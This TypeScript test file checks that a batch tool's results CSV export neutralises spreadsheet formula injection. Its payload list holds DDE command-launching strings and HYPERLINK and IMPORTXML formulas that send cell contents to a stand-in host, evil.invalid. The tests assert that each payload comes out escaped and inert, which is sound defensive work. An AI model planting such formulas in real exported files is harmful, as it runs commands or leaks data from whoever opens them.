import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { batchCreateResponseSchema } from '../../../engine/contract/batch.ts';
import { adminSession, type AdminSession, waitForBatch } from '../support/admin-session.ts';
import { startTestServer, type TestServer } from '../support/test-server.ts';

/**
 * Company names and unreadable entries in a batch are whatever an admin pasted, often
 * from a list someone else made. In the results CSV no cell may start with a
 * character a spreadsheet reads as the start of a formula (OWASP: = + - @ tab CR),
 * wherever it sits in the cell's first line, and the text must survive, escaped.
 */

/** Cells as they are pasted, each a known formula-injection shape. */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")`,
  `+cmd|' /C notepad'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `=1+1\nsecond line`,
  `=IMPORTXML(CONCAT("http://evil.invalid/?",A1),"//a")`,
  `=DDE("cmd";"/C calc";"!A0")`,
];

/** Would a spreadsheet evaluate this cell? */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell);

let server: TestServer;
let admin: AdminSession;
beforeAll(async () => {
  server = await startTestServer({ ADMIN_USERNAME: 'admin', ADMIN_PASSWORD: 'csv-formula-password' });
  admin = await adminSession(server.url, 'admin', 'csv-formula-password');
});
afterAll(async () => {
  await server?.close();
});

async function exportedCells(csvContent: string): Promise<string[][]> {
  const created = await admin.api('/batch/csv', { method: 'POST', body: { csvContent } });
  expect(created.status, await created.clone().text()).toBe(201);
  const { batchId } = batchCreateResponseSchema.parse(await created.json());
  await waitForBatch(admin, batchId);
  const response = await admin.api(`/batch/${batchId}/results.csv`);
  expect(response.status).toBe(200);
  return Papa.parse<string[]>((await response.text()).trim(), { newline: '\r\n' }).data.slice(1);
}

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

describe('formula injection in the results CSV', () => {
  it('exports every payload as a company name escaped, and keeps its text', async () => {
    const csv = ['url,company', ...PAYLOADS.map((payload, n) => `site-${n}.invalid,${quoted(payload)}`)].join('\n');
    const rows = await exportedCells(csv);
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const [n, payload] of PAYLOADS.entries()) {
      const company = rows[n]![1]!;
      expect(live(company), JSON.stringify(company)).toBe(false);
      // Pasted cells are trimmed on the way in (the tab and CR prefixes go there), then escaped on the way out.
      expect(company).toBe(`'${payload.trim()}`);
    }
  });

  it('exports every payload pasted where an address belongs escaped too (an unreadable entry keeps its text)', async () => {
    // One readable address, so the batch is accepted and the rest are kept as failed items.
    const csv = ['url,company', 'acme.invalid,Acme', ...PAYLOADS.map((payload, n) => `${quoted(payload)},Company ${n}`)].join('\n');
    const rows = await exportedCells(csv);
    expect(rows).toHaveLength(PAYLOADS.length + 1);
    for (const row of rows) {
      for (const cell of row) expect(live(cell), JSON.stringify(row)).toBe(false);
    }
    expect(rows.slice(1).map((row) => row[0])).toEqual(PAYLOADS.map((payload) => `'${payload.trim()}`));
  });

  it('leaves ordinary cells alone', async () => {
    const rows = await exportedCells('url,company\nacme.invalid,"Acme, Inc."\nbeta.invalid,Beta 2.0 - fast\n');
    expect(rows.map((row) => row.slice(0, 3))).toEqual([
      ['https://acme.invalid/', 'Acme, Inc.', 'failed'],
      ['https://beta.invalid/', 'Beta 2.0 - fast', 'failed'],
    ]);
  });
});
